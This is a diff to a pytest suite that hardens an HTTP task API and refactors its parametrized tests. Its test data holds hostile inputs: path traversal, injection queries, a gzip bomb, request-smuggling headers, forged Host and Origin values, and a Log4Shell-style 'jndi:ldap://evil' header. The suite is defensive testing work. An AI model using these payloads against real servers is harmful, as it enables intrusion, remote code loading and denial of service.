@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import gzip
 import zlib
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 from pathlib import Path
 
 import pytest
@@ -15,7 +15,13 @@ TASKS = b"/api/v1/tasks"
 ONE = TASKS + b"/1"
 GOOD = b'{"title":"smug"}'
 LARGEST = 10_000_000
-BOMB = gzip.compress(b'{"title":"%b"}' % (b"x" * LARGEST), 9)
+PACKED = gzip.compress(GOOD, mtime=0)
+BOMB = gzip.compress(b'{"title":"%b"}' % (b"x" * LARGEST), 9, mtime=0)
+
+
+def each(*names: str, of: Sequence[object]) -> pytest.MarkDecorator:
+    """A test for each, which may be long and no text at all."""
+    return pytest.mark.parametrize(",".join(names), of, ids=lambda one: repr(one)[:40])
 
 
 @pytest.fixture(scope="module")
@@ -27,9 +33,9 @@ def wire(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Wire]:
             yield found
 
 
-@pytest.mark.parametrize(
+@each(
     "path",
-    [
+    of=[
         b"/api/v1/tasks/..", b"/api/v1/tasks/%2e%2e", b"/api/v1/tasks/%2e%2e%2fkeys",
         b"/api/v1/tasks/1%00", b"/api/v1/tasks/%00", b"/api/v1/tasks/%c0%ae", b"/api/v1/tasks/%ff",
         b"//api/v1/tasks", b"/api//v1/tasks", b"/api/v1/tasks//1", b"/api/v1\\tasks",
@@ -52,9 +58,9 @@ def test_a_strange_path_leads_nowhere(wire: Wire, path: bytes) -> None:
     assert b"smug" not in found.whole
 
 
-@pytest.mark.parametrize(
+@each(
     "query",
-    [
+    of=[
         b"tag=%ff", b"tag=%00", b"tag=../../x", b"tag=__proto__", b"tag[]=x", b"=1", b"a=1&" * 200,
         b"limit=1e3", b"limit=%D9%A1", b"limit=0x10", b"limit=1_0", b"limit=5&limit=6",
         b"limit=99999999999999999999", b"offset=NaN", b"offset=-1", b"ready=maybe",
@@ -69,8 +75,8 @@ def test_a_strange_question_is_refused(wire: Wire, query: bytes) -> None:
     assert harmless(wire.get(TASKS + b"?" + query), wire).status in (400, 404)
 
 
-@pytest.mark.parametrize(
-    "query", [b"labels=a%22b", b"labels=%5C", b"labels=%22%20or%20id:1%20or%20label:%22", b"&&&",
+@each(
+    "query", of=[b"labels=a%22b", b"labels=%5C", b"labels=%22%20or%20id:1%20or%20label:%22", b"&&&",
               b"fields=title%00", b"where=%22(a%2B)%2B%22"]
 )  # fmt: skip
 def test_signs_with_a_meaning_elsewhere_have_none_here(wire: Wire, query: bytes) -> None:
@@ -80,9 +86,9 @@ def test_signs_with_a_meaning_elsewhere_have_none_here(wire: Wire, query: bytes)
     assert (found.data["total"] == 0) == query.startswith((b"labels", b"where"))
 
 
-@pytest.mark.parametrize(
+@each(
     "body",
-    [
+    of=[
         b"", b"   ", b"null", b"[]", b'"x"', b"\x00", b'{"title":"x"', GOOD * 2,
         b"\xef\xbb\xbf" + GOOD, b'{"title":"x","id":"7"}', b'{"a":' * 90_000, b"[" * 500_000,
         GOOD.decode().encode("utf-16"), b'{"title":"\xff\xfe"}', b'{"title":"\xc0\x80"}',
@@ -94,15 +100,15 @@ def test_signs_with_a_meaning_elsewhere_have_none_here(wire: Wire, query: bytes)
         b'{"title":"x","metadata":{"a":%b%b}}' % (b"[" * 90_000, b"]" * 90_000),
         b'{"title":"x","metadata":{"a":%b}}' % (b"9" * 5_000),
     ],
-    ids=lambda body: repr(body[:30]),
 )  # fmt: skip
 def test_a_strange_body_is_refused(wire: Wire, body: bytes) -> None:
     assert harmless(wire.send(body), wire).status == 400
 
 
-@pytest.mark.parametrize(
-    "kind", [b"text/plain", b"application/x-www-form-urlencoded", b"multipart/form-data", b"\xff",
-             b"application/json, text/plain", b"text/json"]
+@each(
+    "kind",
+    of=[b"text/plain", b"application/x-www-form-urlencoded", b"multipart/form-data", b"\xff",
+        b"application/json, text/plain", b"text/json"],
 )  # fmt: skip
 def test_a_body_of_another_type_is_refused(wire: Wire, kind: bytes) -> None:
     found = harmless(wire.send(GOOD, b"Content-Type: %b\r\n" % kind), wire)
@@ -119,12 +125,12 @@ def test_a_body_that_is_too_large_is_refused_whether_it_says_so_or_not(wire: Wir
     assert harmless(wire.say(chunked, *[piece] * 160), wire).status == 413
 
 
-@pytest.mark.parametrize(
-    ("coding", "body", "status"),
-    [
-        (b"gzip", BOMB, 413), (b"deflate", zlib.compress(bytes(LARGEST)), 413),
-        (b"gzip, gzip", gzip.compress(BOMB), 415), (b"br", GOOD, 415), (b"gzip", GOOD, 400),
-        (b"gzip", gzip.compress(GOOD)[:-4], 400), (b"gzip", gzip.compress(GOOD) * 2, 400),
+@each(
+    "coding", "body", "status",
+    of=[
+        (b"gzip", BOMB, 413), (b"gzip, gzip", gzip.compress(BOMB, mtime=0), 415),
+        (b"deflate", zlib.compress(bytes(LARGEST)), 413), (b"br", GOOD, 415),
+        (b"gzip", GOOD, 400), (b"gzip", PACKED[:-4], 400), (b"gzip", PACKED * 2, 400),
         (b"\xff", GOOD, 415),
     ],
 )  # fmt: skip
@@ -132,9 +138,9 @@ def test_a_bomb_does_not_go_off(wire: Wire, coding: bytes, body: bytes, status: 
     assert harmless(wire.send(body, b"Content-Encoding: %b\r\n" % coding), wire).status == status
 
 
-@pytest.mark.parametrize(
+@each(
     "lines",
-    [
+    of=[
         b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", b"Content-Length: 16, 16\r\n",
         b"Transfer-Encoding: chunked\r\nContent-Length: 16\r\n", b"Content-Length: 1e1\r\n",
         b"Content-Length: 16\r\nContent-Length: 0\r\n",
@@ -161,9 +167,9 @@ def test_nobody_can_hide_a_second_request_in_the_first(wire: Wire, lines: bytes)
     assert b"Task 2" not in found.whole
 
 
-@pytest.mark.parametrize(
+@each(
     "chunks",
-    [
+    of=[
         b"0x10\r\n" + GOOD + b"\r\n0\r\n\r\n", b"10\n" + GOOD + b"\r\n0\r\n\r\n", b"-1\r\n",
         b"FFFFFFFFFFFFFFFFF\r\n", b"10\r\n" + GOOD + b"xx0\r\n\r\n", b"\r\n", b"z\r\n",
     ],
@@ -193,9 +199,9 @@ def test_any_number_of_headers_behind_a_body_takes_no_room(wire: Wire) -> None:
     assert found.status == 201
 
 
-@pytest.mark.parametrize(
+@each(
     "rubbish",
-    [
+    of=[
         b"\x00" * 100, bytes(range(256)) * 10, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" * 20,
         b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"GET\r\n\r\n", b"GET " + ONE + b" HTTP/9.9\r\n\r\n",
         b"GET " + ONE + b" HTTP/1.1\nHost: localhost\n\n", b"get " + ONE + b" HTTP/1.1\r\n\r\n",
@@ -203,14 +209,13 @@ def test_any_number_of_headers_behind_a_body_takes_no_room(wire: Wire) -> None:
         b"GET \\api\\v1 HTTP/1.1\r\n\r\n", b"GET /\xff HTTP/1.1\r\n\r\n",
         b"FOO " + ONE + b" HTTP/1.1\r\n" + HOST + CLOSE + b"\r\n",
     ],
-    ids=lambda rubbish: repr(rubbish[:30]),
 )  # fmt: skip
 def test_rubbish_is_none_of_ours(wire: Wire, rubbish: bytes) -> None:
     assert harmless(wire.say(rubbish, b"\r\n\r\n"), wire).status in (0, 400)
 
 
-@pytest.mark.parametrize(
-    "method", [b"TRACE", b"CONNECT", b"PUT", b"PROPFIND", b"MKCOL", b"PURGE", b"LINK", b"SEARCH"]
+@each(
+    "method", of=[b"TRACE", b"CONNECT", b"PUT", b"PROPFIND", b"MKCOL", b"PURGE", b"LINK", b"SEARCH"]
 )
 def test_a_method_that_is_not_there_does_nothing(wire: Wire, method: bytes) -> None:
     found = harmless(wire.get(ONE, method=method), wire)
@@ -219,9 +224,7 @@ def test_a_method_that_is_not_there_does_nothing(wire: Wire, method: bytes) -> N
     assert b"Task 1" not in found.whole
 
 
-@pytest.mark.parametrize(
-    "header", [b"X-HTTP-Method-Override", b"X-Method-Override", b"X-HTTP-Method"]
-)
+@each("header", of=[b"X-HTTP-Method-Override", b"X-Method-Override", b"X-HTTP-Method"])
 def test_a_method_in_a_header_is_no_method(wire: Wire, header: bytes) -> None:
     found = wire.get(ONE, header + b": DELETE\r\n")
 
@@ -229,9 +232,9 @@ def test_a_method_in_a_header_is_no_method(wire: Wire, header: bytes) -> None:
     assert wire.get(ONE).status == 200
 
 
-@pytest.mark.parametrize(
+@each(
     "host",
-    [
+    of=[
         b"evil.example", b"localhost.evil.example", b"evil.example:80", b"localhost@evil.example",
         b"localhost:99999999", b"localhost:80:80", b"127.1", b"0x7f000001", b"2130706433", b"\xff",
         b"localhost/", b"localhost#x", b"localhost,evil", b"a" * 9_000, b"", b"127.0.0.1.nip.io",
@@ -246,9 +249,9 @@ def test_the_server_is_called_by_its_own_name_or_not_at_all(wire: Wire, host: by
     assert b"Task 1" not in found.whole
 
 
-@pytest.mark.parametrize(
+@each(
     "origin",
-    [
+    of=[
         b"http://evil.example", b"null", b"http://localhost:3000", b"file://localhost", b"*",
         b"capacitor://localhost", b"http://localhost@evil.example", b"://localhost", b"localhost",
         b"http://localhost.evil.example", b"http://evil.example#localhost", b"\xff", b"http://",
@@ -263,8 +266,9 @@ def test_a_page_of_somebody_else_changes_nothing(wire: Wire, origin: bytes) -> N
     assert b"access-control-allow" not in found.whole + asked.whole
 
 
-@pytest.mark.parametrize(
-    "mark", [b'"x"', b'W/"x"', b"x" * 9_000, b'"' * 1_000, b",,,", b"\xff", b'"a", "b"', b'"-gz"']
+@each(
+    "mark",
+    of=[b'"x"', b'W/"x"', b"x" * 9_000, b'"' * 1_000, b",,,", b"\xff", b'"a", "b"', b'"-gz"'],
 )
 def test_a_mark_of_nothing_is_no_mark(wire: Wire, mark: bytes) -> None:
     asked = harmless(wire.get(ONE, b"If-None-Match: %b\r\n" % mark), wire)
@@ -288,9 +292,9 @@ def test_a_key_for_repeating_is_one_request_and_nothing_else(wire: Wire) -> None
     assert sent(b"x\x01", GOOD) == 400
 
 
-@pytest.mark.parametrize(
+@each(
     "header",
-    [
+    of=[
         b"Accept: " + b"a/b," * 5_000, b"Accept-Encoding: gzip;q=nan", b"Accept-Encoding: *;q=0",
         b"Accept-Encoding: " + b"gzip," * 5_000, b"Range: bytes=0-1", b"Expect: 200-never",
         b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__", b'X-Request-Id: a"b\\c',
@@ -299,7 +303,6 @@ def test_a_key_for_repeating_is_one_request_and_nothing_else(wire: Wire) -> None
         b"User-Agent: ${jndi:ldap://evil/a}", b"Referer: \xff", b"If-Modified-Since: x",
         b"Content-Type: \xff", b"TE: trailers", b"Via: 1.1 " + b"x" * 9_000,
     ],
-    ids=lambda header: repr(header[:30]),
 )  # fmt: skip
 def test_a_header_that_means_nothing_here_changes_nothing(wire: Wire, header: bytes) -> None:
     found = harmless(wire.get(ONE, header + b"\r\n"), wire)
